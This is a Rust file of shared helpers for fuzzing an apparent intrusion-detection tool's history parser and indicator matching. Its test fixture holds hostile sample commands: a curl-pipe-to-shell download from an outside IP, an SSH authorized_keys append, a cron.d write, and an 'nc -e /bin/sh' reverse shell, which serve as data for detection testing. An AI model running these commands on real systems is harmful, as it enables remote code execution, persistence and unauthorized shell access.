//! What the targets share.
#![forbid(unsafe_code)]

use cordon_behavior::story::{Connection, FileOperation, Process, Relative, Story};
use cordon_history::{Format, History, Item};
use cordon_rules::IndicatorsBuilder;

/// Most lines of one input: more of them reach nothing that fewer do not.
const LINES: usize = 64;

/// Reads the input as a file of one format, or of one that it looks like. The time of what it tells must not go back.
pub fn history(format: Option<Format>, bytes: &[u8]) {
    let mut history = History::new(format);
    let mut items = Vec::new();
    for line in bytes.split(|byte| *byte == b'\n').take(LINES) {
        // Damage is an answer like any other.
        drop(history.line(line, &mut items));
    }
    history.end(&mut items);
    if history.format() == Some(Format::Events) {
        return;
    }
    let mut before = 0;
    for item in items {
        if let Item::Event(event) = item {
            assert!(event.mono_ns >= before, "time goes back");
            before = event.mono_ns;
        }
    }
}

/// A story that has something of everything that rules ask for.
pub fn story() -> Story {
    let words = |text: &str| text.split(' ').map(str::to_owned).collect();
    Story {
        process: Some(Process {
            exe: "/usr/bin/bash".to_owned(),
            argv: words("bash -c id; curl http://198.51.100.7/a | sh"),
            cwd: "/tmp".to_owned(),
            uid: Some(0),
            ..Process::default()
        }),
        ancestors: vec![relative("/usr/sbin/nginx", words("nginx: worker process"))],
        children: vec![relative("/usr/bin/id", words("id"))],
        connections: ["127.0.0.1", "::1", "203.0.113.9"].map(connection).to_vec(),
        dns: vec!["a.b.example".to_owned()],
        files: vec![FileOperation {
            op: "write".to_owned(),
            path: "/etc/cron.d/x".to_owned(),
            ..FileOperation::default()
        }],
        command: Some("echo 'a; b' >> /root/.ssh/authorized_keys && nc -e /bin/sh x 1".to_owned()),
        ..Story::default()
    }
}

fn relative(exe: &str, argv: Vec<String>) -> Relative {
    Relative {
        exe: exe.to_owned(),
        argv,
        uid: Some(33),
    }
}

fn connection(address: &str) -> Connection {
    Connection {
        direction: "out".to_owned(),
        protocol: "tcp".to_owned(),
        address: address.to_owned(),
        port: 4444,
        ..Connection::default()
    }
}

/// Reads a list of indicators. Loopback is nobody's.
pub fn indicators(bytes: &[u8]) {
    let mut builder = IndicatorsBuilder::new();
    builder.list("x", bytes);
    for hit in builder.build().hits(&story(), None) {
        assert!(hit.found != "127.0.0.1" && hit.found != "::1", "{hit:?}");
    }
}
